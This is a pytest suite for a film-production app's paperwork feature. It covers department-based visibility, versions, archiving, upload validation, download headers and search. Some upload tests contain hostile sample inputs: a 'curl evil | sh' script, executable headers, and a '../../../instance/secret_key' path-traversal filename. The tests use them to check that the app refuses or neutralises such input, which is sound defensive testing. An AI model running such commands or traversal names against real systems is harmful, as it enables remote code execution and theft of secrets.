"""Production paperwork: who sees what, versions, archive, uploads, downloads and search."""

import hashlib
import io
import re

import pytest
import sqlalchemy as sa
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from app.auth.models import User
from app.auth.service import hash_password
from app.crew.models import COORDINATOR, Person
from app.documents.models import Document, DocumentVersion
from app.extensions import db
from app.schedule.models import Location, Production
from test_documents_files import DOCX, PDF, PNG

PASSWORD = "callboard-demo"
CAMERA_CREW, ART_CREW, FERRY_OFFICE = "crew@example.com", "art@example.com", "ferry@example.com"


class Seeded:
    """Ids of one seeded production, looked up by title."""

    def __init__(self, title):
        production = db.session.scalar(sa.select(Production).where(Production.title == title))
        self.id = production.id
        self.days = [d.id for d in production.shoot_days]
        self.locations = {
            place.name: place.id
            for place in db.session.scalars(sa.select(Location).where(Location.production_id == production.id))
        }
        self.departments = {d.name: d.id for d in production.departments}


@pytest.fixture
def store(app, tmp_path):
    app.config["DOCUMENT_STORAGE_DIR"] = str(tmp_path / "documents")
    return tmp_path / "documents"


@pytest.fixture
def office(demo, store):
    """The demo productions, an Art crew account, and a coordinator of the short film only."""
    with demo.app_context():
        art = db.session.scalar(sa.select(Person).where(Person.name == "Hugo Petit"))
        art.user = User(email=ART_CREW, name="Hugo Petit", password_hash=hash_password(PASSWORD))
        ferry = Seeded("Night Ferry (short)")
        db.session.add(
            Person(
                production_id=ferry.id,
                role=COORDINATOR,
                name="Ffion Jones",
                email=FERRY_OFFICE,
                user=User(email=FERRY_OFFICE, name="Ffion Jones", password_hash=hash_password(PASSWORD)),
            )
        )
        db.session.commit()
        return {"iron": Seeded("The Iron Men"), "ferry": ferry}


@pytest.fixture
def iron(office):
    return office["iron"]


def post_file(client, url, content, filename, **fields):
    """POST a multipart form as a browser would; encoded in memory (the test client's
    own encoder spools big bodies to a temporary file it never closes)."""
    values = MultiDict([(k, v) for k, vs in fields.items() for v in (vs if isinstance(vs, list) else [vs])])
    values.add("file", FileStorage(io.BytesIO(content), filename=filename))
    boundary, body = encode_multipart(values)
    return client.post(url, data=body, content_type=f'multipart/form-data; boundary="{boundary}"')


def upload(client, production_id, content=PDF, filename="permit.pdf", **fields):
    fields = {"kind": "permit", "title": "Dock filming permit", **fields}
    return post_file(client, f"/p/{production_id}/documents/new", content, filename, **fields)


def uploaded(client, production_id, **fields) -> int:
    response = upload(client, production_id, **fields)
    assert response.status_code == 303, response.get_data(as_text=True)
    return int(response.headers["Location"].rsplit("/", 1)[1])


def fetch(client, url, **kwargs):
    """GET a URL, reading and closing a streamed file response."""
    return client.get(url, buffered=True, **kwargs)


def page(client, url, **kwargs) -> str:
    response = client.get(url, **kwargs)
    assert response.status_code == 200
    return response.get_data(as_text=True)


def stored_files(store):
    return sorted(p for p in store.rglob("*") if p.is_file()) if store.exists() else []


def document_count(app) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count(Document.id)))


@pytest.fixture
def shared(client, auth, iron):
    """Four documents on The Iron Men with every kind of visibility."""
    auth.login()
    cam, art = iron.departments["Camera"], iron.departments["Art"]
    ids = {
        "map": uploaded(
            client, iron.id, kind="map", title="Unit base map", content=PNG, filename="map.png", visibility="everyone"
        ),
        "camera": uploaded(
            client,
            iron.id,
            kind="sides",
            title="Camera sides",
            visibility="departments",
            department_ids=[str(cam)],
            content=PDF + b"camera",
        ),
        "art": uploaded(
            client,
            iron.id,
            kind="other",
            title="Set dressing list",
            visibility="departments",
            department_ids=[str(art)],
            content=PDF + b"art",
        ),
        "office": uploaded(
            client,
            iron.id,
            kind="insurance",
            title="Public liability certificate",
            visibility="coordinators",
            content=PDF + b"office",
        ),
    }
    auth.logout()
    return ids


# Who sees what ---------------------------------------------------------------------------


def test_crew_see_documents_for_everyone_and_for_their_own_department_only(client, auth, iron, shared):
    auth.login(CAMERA_CREW)
    listing = page(client, f"/p/{iron.id}/documents/")
    assert "Unit base map" in listing and "Camera sides" in listing
    assert "Set dressing list" not in listing and "Public liability" not in listing
    auth.login(ART_CREW)
    listing = page(client, f"/p/{iron.id}/documents/")
    assert "Set dressing list" in listing and "Unit base map" in listing
    assert "Camera sides" not in listing and "Public liability" not in listing


def test_coordinators_see_every_document_with_who_may_see_it(client, auth, iron, shared):
    auth.login()
    listing = page(client, f"/p/{iron.id}/documents/")
    for title in ("Unit base map", "Camera sides", "Set dressing list", "Public liability certificate"):
        assert title in listing
    assert "Office only" in listing and "Everyone" in listing


@pytest.mark.parametrize("hidden", ["art", "office"])
def test_crew_get_404_for_a_document_they_may_not_see_on_detail_and_download(client, auth, iron, shared, hidden):
    auth.login(CAMERA_CREW)
    base = f"/p/{iron.id}/documents/{shared[hidden]}"
    assert client.get(base).status_code == 404
    assert fetch(client, f"{base}/versions/1/download").status_code == 404
    assert fetch(client, f"/p/{iron.id}/documents/{shared['camera']}/versions/1/download").status_code == 200


def test_contracts_are_production_office_only_unless_the_coordinator_chooses(client, auth, iron):
    auth.login()
    contract = uploaded(client, iron.id, kind="contract", title="Director deal memo", visibility="")
    permit = uploaded(client, iron.id, kind="permit", title="Road closure permit", visibility="")
    shared_contract = uploaded(client, iron.id, kind="contract", title="Crew standard terms", visibility="everyone")
    auth.login(CAMERA_CREW)
    assert client.get(f"/p/{iron.id}/documents/{contract}").status_code == 404
    assert client.get(f"/p/{iron.id}/documents/{permit}").status_code == 200
    assert client.get(f"/p/{iron.id}/documents/{shared_contract}").status_code == 200


def test_a_coordinator_can_change_who_sees_a_document(client, auth, iron, shared):
    auth.login()
    response = client.post(
        f"/p/{iron.id}/documents/{shared['office']}/edit",
        data={
            "kind": "insurance",
            "title": "Public liability certificate",
            "visibility": "departments",
            "department_ids": [str(iron.departments["Camera"])],
        },
    )
    assert response.status_code == 303
    auth.login(CAMERA_CREW)
    assert client.get(f"/p/{iron.id}/documents/{shared['office']}").status_code == 200
    auth.login(ART_CREW)
    assert client.get(f"/p/{iron.id}/documents/{shared['office']}").status_code == 404


def test_editing_tags_keeps_the_ones_still_wanted_and_drops_the_rest(client, auth, iron):
    auth.login()
    doc_id = uploaded(client, iron.id, tags="dock, night")
    response = client.post(
        f"/p/{iron.id}/documents/{doc_id}/edit",
        data={"kind": "permit", "title": "Dock filming permit", "tags": "Night, parking", "visibility": "everyone"},
    )
    assert response.status_code == 303
    assert page(client, f"/p/{iron.id}/documents/{doc_id}/edit").count('value="night, parking"') == 1
    assert listed(client, f"/p/{iron.id}/documents/?tag=parking") == {"Dock filming permit"}
    assert listed(client, f"/p/{iron.id}/documents/?tag=dock") == set()


def test_chosen_departments_needs_at_least_one_department(client, auth, iron, store):
    auth.login()
    response = upload(client, iron.id, visibility="departments")
    assert response.status_code == 422
    assert "Choose at least one department." in response.get_data(as_text=True)
    assert document_count(client.application) == 0 and stored_files(store) == []


def test_crew_cannot_upload_change_or_archive(client, auth, iron, shared):
    auth.login(CAMERA_CREW)
    doc = f"/p/{iron.id}/documents/{shared['map']}"
    assert client.get(f"/p/{iron.id}/documents/new").status_code == 403
    assert upload(client, iron.id).status_code == 403
    assert post_file(client, f"{doc}/versions", PDF, "x.pdf").status_code == 403
    assert client.post(f"{doc}/edit", data={"kind": "map", "title": "Mine"}).status_code == 403
    assert client.post(f"{doc}/archive").status_code == 403
    assert client.post(f"{doc}/restore").status_code == 403


def test_another_productions_coordinator_gets_404_for_documents_and_downloads(client, auth, office, shared):
    iron, ferry = office["iron"], office["ferry"]
    auth.login(FERRY_OFFICE)
    assert client.get(f"/p/{iron.id}/documents/").status_code == 404
    assert client.get(f"/p/{iron.id}/documents/new").status_code == 404
    for doc_id in shared.values():
        for url in (
            f"/p/{iron.id}/documents/{doc_id}",
            f"/p/{iron.id}/documents/{doc_id}/versions/1/download",
            f"/p/{ferry.id}/documents/{doc_id}",
            f"/p/{ferry.id}/documents/{doc_id}/versions/1/download",
            f"/p/{ferry.id}/documents/{doc_id}/edit",
        ):
            assert client.get(url).status_code == 404, url
        for action in ("archive", "restore", "edit"):
            assert client.post(f"/p/{ferry.id}/documents/{doc_id}/{action}").status_code == 404
    assert "Unit base map" not in page(client, f"/p/{ferry.id}/documents/")


def test_signed_out_visitors_are_sent_to_sign_in(client, iron, shared):
    response = fetch(client, f"/p/{iron.id}/documents/{shared['map']}/versions/1/download")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.parametrize(
    ("field", "message"),
    [
        ("shoot_day_id", "Choose a shoot day of this production."),
        ("location_id", "Choose a location of this production."),
    ],
)
def test_a_day_or_location_of_another_production_is_a_field_error(client, auth, office, store, field, message):
    ferry = office["ferry"]
    foreign = ferry.days[0] if field == "shoot_day_id" else next(iter(ferry.locations.values()))
    auth.login()
    response = upload(client, office["iron"].id, **{field: str(foreign)})
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert document_count(client.application) == 0 and stored_files(store) == []


def test_departments_of_another_production_are_a_field_error(client, auth, office):
    auth.login()
    ferry_department = next(iter(office["ferry"].departments.values()))
    response = upload(client, office["iron"].id, visibility="departments", department_ids=[str(ferry_department)])
    assert response.status_code == 422
    assert "Choose departments of this production." in response.get_data(as_text=True)


# Versions and archive --------------------------------------------------------------------


def test_a_new_version_keeps_the_history_and_every_version_downloads(client, auth, iron):
    auth.login()
    doc_id = uploaded(client, iron.id, title="Parking map", kind="map", content=PNG, filename="parking-v1.png")
    second = PDF + b"% revised parking bays\n"
    response = post_file(client, f"/p/{iron.id}/documents/{doc_id}/versions", second, "parking-v2.pdf")
    assert response.status_code == 303
    detail = page(client, f"/p/{iron.id}/documents/{doc_id}")
    assert "parking-v1.png" in detail and "parking-v2.pdf" in detail
    assert detail.count("Dana Whitfield") >= 2 and "Upload version 3" in detail
    first_download = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download")
    assert first_download.data == PNG and first_download.mimetype == "image/png"
    second_download = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/2/download")
    assert second_download.data == second and second_download.mimetype == "application/pdf"
    with client.application.app_context():
        versions = db.session.scalars(
            sa.select(DocumentVersion).where(DocumentVersion.document_id == doc_id).order_by(DocumentVersion.number)
        ).all()
        assert [(v.number, v.filename, v.size, v.content_type, v.sha256) for v in versions] == [
            (1, "parking-v1.png", len(PNG), "image/png", hashlib.sha256(PNG).hexdigest()),
            (2, "parking-v2.pdf", len(second), "application/pdf", hashlib.sha256(second).hexdigest()),
        ]
        assert {v.uploaded_by.name for v in versions} == {"Dana Whitfield"}
    assert fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/3/download").status_code == 404


def test_a_rejected_new_version_leaves_the_history_alone(client, auth, iron):
    auth.login()
    doc_id = uploaded(client, iron.id)
    response = post_file(client, f"/p/{iron.id}/documents/{doc_id}/versions", b"#!/bin/sh\n", "v2.pdf")
    assert response.status_code == 422 and "script" in response.get_data(as_text=True)
    assert fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/2/download").status_code == 404


def test_archived_documents_leave_the_list_and_crew_view_until_restored(client, auth, iron, shared):
    doc = f"/p/{iron.id}/documents/{shared['map']}"
    auth.login()
    assert client.post(f"{doc}/archive").status_code == 303
    assert "Unit base map" not in page(client, f"/p/{iron.id}/documents/")
    assert "Unit base map" in page(client, f"/p/{iron.id}/documents/?archived=on")
    assert "Restore" in page(client, doc)
    auth.login(CAMERA_CREW)
    assert client.get(doc).status_code == 404
    assert fetch(client, f"{doc}/versions/1/download").status_code == 404
    assert "Unit base map" not in page(client, f"/p/{iron.id}/documents/?archived=on")
    auth.login()
    assert client.post(f"{doc}/restore").status_code == 303
    assert "Unit base map" in page(client, f"/p/{iron.id}/documents/")
    auth.login(CAMERA_CREW)
    assert client.get(doc).status_code == 200


# Uploads ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "filename", "says"),
    [
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "call-sheet.pdf", "a program"),
        (b"MZ\x90\x00" + b"\x00" * 64, "budget.xlsx", "Windows program"),
        (b"#!/bin/bash\ncurl evil | sh\n", "notes.txt", "a script"),
        (b"", "empty.pdf", "The file is empty."),
    ],
)
def test_programs_scripts_and_empty_files_are_refused_and_nothing_is_kept(
    client, auth, iron, store, content, filename, says
):
    auth.login()
    response = upload(client, iron.id, content=content, filename=filename)
    assert response.status_code == 422
    assert says in response.get_data(as_text=True)
    assert document_count(client.application) == 0 and stored_files(store) == []


def test_a_plain_form_upload_carries_its_csrf_token_as_a_field(client, auth, iron):
    auth.login()
    token = re.search(r'name="csrf_token" value="([^"]+)"', page(client, f"/p/{iron.id}/documents/new")).group(1)
    values = MultiDict({"csrf_token": token, "kind": "map", "title": "Parking map"})
    values.add("file", FileStorage(io.BytesIO(PNG), filename="map.png"))
    boundary, body = encode_multipart(values)
    response = client.post(
        f"/p/{iron.id}/documents/new", data=body, csrf=False, content_type=f'multipart/form-data; boundary="{boundary}"'
    )
    assert response.status_code == 303


def test_an_upload_without_a_file_asks_for_one(client, auth, iron):
    auth.login()
    response = client.post(
        f"/p/{iron.id}/documents/new", data={"kind": "permit", "title": "Permit"}, content_type="multipart/form-data"
    )
    assert response.status_code == 422 and "Choose a file to upload." in response.get_data(as_text=True)


def test_missing_title_and_unknown_type_are_field_errors(client, auth, iron, store):
    auth.login()
    response = upload(client, iron.id, kind="memo", title="  ")
    body = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "Choose a type from the list." in body and "Give the document a title" in body
    assert stored_files(store) == []


def test_a_file_over_the_limit_is_a_field_error_naming_the_limit(client, auth, iron, store):
    client.application.config["DOCUMENT_MAX_BYTES"] = 1024 * 1024
    auth.login()
    response = upload(client, iron.id, content=PDF + b"0" * (1024 * 1024))
    assert response.status_code == 422
    assert "The file is larger than 1 MB." in response.get_data(as_text=True)
    assert stored_files(store) == []


def test_a_request_far_over_the_limit_is_refused_with_413_and_a_clear_message(client, auth, iron, store):
    client.application.config["DOCUMENT_MAX_BYTES"] = 1024 * 1024
    auth.login()
    # The length alone refuses it: the body is never read.
    response = client.post(
        f"/p/{iron.id}/documents/new", data=b"0" * (2 * 1024 * 1024), content_type="multipart/form-data; boundary=cut"
    )
    assert response.status_code == 413
    assert "larger than 1 MB" in response.get_data(as_text=True)
    assert stored_files(store) == []


def test_upload_routes_accept_files_beyond_the_global_2_mb_request_limit(client, auth, iron):
    auth.login()
    big = PDF + b"0" * (3 * 1024 * 1024)
    doc_id = uploaded(client, iron.id, content=big)
    assert fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download").data == big
    response = client.post(f"/p/{iron.id}/documents/{doc_id}/edit", data={"kind": "permit", "title": "x" * (3 << 20)})
    assert response.status_code == 413  # every other route keeps the 2 MB limit


def test_a_name_with_path_separators_is_only_a_name(client, auth, iron, store):
    auth.login()
    doc_id = uploaded(client, iron.id, filename="../../../instance/secret_key\t\x1b.pdf")
    response = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download?attachment=1")
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=\"secret_key.pdf\"; filename*=UTF-8''secret_key.pdf"
    )
    digest = hashlib.sha256(PDF).hexdigest()
    assert stored_files(store) == [store / digest[:2] / digest[2:4] / digest]
    assert "secret_key.pdf" in page(client, f"/p/{iron.id}/documents/{doc_id}")


def test_a_pdf_with_the_wrong_extension_is_kept_and_served_as_a_pdf(client, auth, iron):
    auth.login()
    doc_id = uploaded(client, iron.id, filename="location agreement.docx")
    response = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download")
    assert response.mimetype == "application/pdf"
    assert 'filename="location agreement.pdf"' in response.headers["Content-Disposition"]


def test_identical_files_are_stored_once_and_shared_by_their_versions(client, auth, iron, store):
    auth.login()
    first = uploaded(client, iron.id, title="Permit (office copy)")
    second = uploaded(client, iron.id, title="Permit (unit copy)", filename="copy.pdf")
    assert len(stored_files(store)) == 1
    for doc_id in (first, second):
        assert fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download").data == PDF


# Downloads ----------------------------------------------------------------------------------


def test_a_pdf_opens_inline_in_a_sandbox_with_safe_headers(client, auth, iron):
    auth.login()
    doc_id = uploaded(client, iron.id, filename="Genehmigung Hafen – März.pdf")
    response = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download")
    headers = response.headers
    assert headers["Content-Type"] == "application/pdf"
    assert headers["Content-Disposition"] == (
        'inline; filename="Genehmigung Hafen  Marz.pdf"; '
        "filename*=UTF-8''Genehmigung%20Hafen%20%E2%80%93%20M%C3%A4rz.pdf"
    )
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cache-Control"].startswith("private")
    assert headers["Content-Security-Policy"].startswith("sandbox")
    assert headers["Content-Length"] == str(len(PDF))


def test_asking_for_a_download_saves_the_file_instead_of_opening_it(client, auth, iron):
    auth.login()
    doc_id = uploaded(client, iron.id)
    response = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download?attachment=1")
    assert response.headers["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize(
    ("content", "filename", "content_type"),
    [
        (DOCX, "contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (b"Name,Call\nRosa,06:30\n", "calls.csv", "text/csv; charset=utf-8"),
    ],
)
def test_office_documents_and_text_are_always_saved_not_shown(client, auth, iron, content, filename, content_type):
    auth.login()
    doc_id = uploaded(client, iron.id, content=content, filename=filename)
    response = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download")
    assert response.headers["Content-Type"] == content_type
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.data == content


def test_a_phone_that_has_the_file_revalidates_cheaply(client, auth, iron):
    auth.login()
    doc_id = uploaded(client, iron.id)
    url = f"/p/{iron.id}/documents/{doc_id}/versions/1/download"
    etag = fetch(client, url).headers["ETag"]
    response = fetch(client, url, headers={"If-None-Match": etag})
    assert response.status_code == 304 and response.data == b""


# Search and filters ------------------------------------------------------------------------


@pytest.fixture
def filed(client, auth, iron):
    """Documents tagged and attached to days and locations."""
    auth.login()
    warehouse, beach = iron.locations["Harbour Warehouse"], iron.locations["Crosby Beach"]
    return {
        "permit": uploaded(
            client,
            iron.id,
            kind="permit",
            title="Dock 100% closure permit",
            tags="Night, dock",
            shoot_day_id=str(iron.days[3]),
            location_id=str(warehouse),
        ),
        "map": uploaded(
            client, iron.id, kind="map", title="Beach parking map", tags="parking", location_id=str(beach), content=PNG
        ),
        "risk": uploaded(
            client,
            iron.id,
            kind="risk_assessment",
            title="Water work risk assessment",
            visibility="departments",
            department_ids=[str(iron.departments["Grip & Electric"])],
            tags="water, dock",
            content=PDF + b"risk",
        ),
    }


def listed(client, url) -> set[str]:
    return set(re.findall(r'class="doc-title" href="[^"]+">([^<]+)<', page(client, url)))


@pytest.mark.parametrize(
    ("query", "titles"),
    [
        ("", {"Dock 100% closure permit", "Beach parking map", "Water work risk assessment"}),
        ("kind=map", {"Beach parking map"}),
        ("tag=dock", {"Dock 100% closure permit", "Water work risk assessment"}),
        ("tag=DOCK", {"Dock 100% closure permit", "Water work risk assessment"}),
        ("q=PARKING", {"Beach parking map"}),
        ("q=100%25", {"Dock 100% closure permit"}),
        ("q=10_", set()),
        ("kind=permit&tag=parking", set()),
    ],
)
def test_documents_are_found_by_type_tag_and_title(client, iron, filed, query, titles):
    assert listed(client, f"/p/{iron.id}/documents/?{query}") == titles


def test_documents_are_found_by_day_location_and_department(client, iron, filed):
    base = f"/p/{iron.id}/documents/"
    assert listed(client, f"{base}?day={iron.days[3]}") == {"Dock 100% closure permit"}
    assert listed(client, f"{base}?location={iron.locations['Crosby Beach']}") == {"Beach parking map"}
    department = iron.departments["Grip & Electric"]
    assert listed(client, f"{base}?department={department}") == {"Water work risk assessment"}


def test_an_htmx_search_gets_only_the_list_and_the_page_works_without_it(client, iron, filed):
    fragment = client.get(f"/p/{iron.id}/documents/?kind=map", headers={"HX-Request": "true"})
    body = fragment.get_data(as_text=True)
    assert "HX-Request" in fragment.headers["Vary"]
    assert body.lstrip().startswith('<section id="document-list"') and "<html" not in body
    assert "Beach parking map" in body and "Dock 100%" not in body
    full = page(client, f"/p/{iron.id}/documents/?kind=map")
    assert "<html" in full and 'hx-get="/p/' in full and 'method="get"' in full


def test_a_bad_filter_is_a_422_with_a_message(client, iron, filed):
    response = client.get(f"/p/{iron.id}/documents/?kind=memo&day=tomorrow")
    assert response.status_code == 422
    assert "Choose a type from the list." in response.get_data(as_text=True)


# The call sheet's paperwork: tests/test_paperwork.py ---------------------------------------


def test_the_list_costs_the_same_number_of_queries_for_three_documents_or_thirty(client, app, auth, iron):
    auth.login()
    warehouse = str(iron.locations["Harbour Warehouse"])

    def queries_for_list():
        statements = []
        with app.app_context():
            listen = lambda *args: statements.append(args[2])  # noqa: E731
            sa.event.listen(db.engine, "before_cursor_execute", listen)
            try:
                page(client, f"/p/{iron.id}/documents/")
            finally:
                sa.event.remove(db.engine, "before_cursor_execute", listen)
        return len(statements)

    def add(count, start):
        for n in range(start, start + count):
            uploaded(
                client,
                iron.id,
                title=f"Sides {n}",
                kind="sides",
                tags=f"day {n % 5}",
                location_id=warehouse,
                shoot_day_id=str(iron.days[n % 5]),
                content=PDF + str(n).encode(),
            )

    add(3, 0)
    few = queries_for_list()
    add(27, 3)
    assert queries_for_list() == few
